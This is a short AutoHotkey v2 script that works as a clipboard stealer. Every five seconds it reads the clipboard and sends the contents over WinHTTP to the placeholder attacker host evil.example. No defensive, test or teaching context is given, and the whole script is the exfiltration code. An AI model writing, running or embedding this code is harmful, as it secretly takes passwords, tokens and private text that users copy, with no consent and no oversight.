#Requires AutoHotkey v2.0
SetTimer(Grab, 5000)
Grab() {
    whr := ComObject("WinHttp.WinHttpRequest.5.1")
    whr.Open("GET", "https://evil.example/?c=" A_Clipboard, true)
    whr.Send()
}
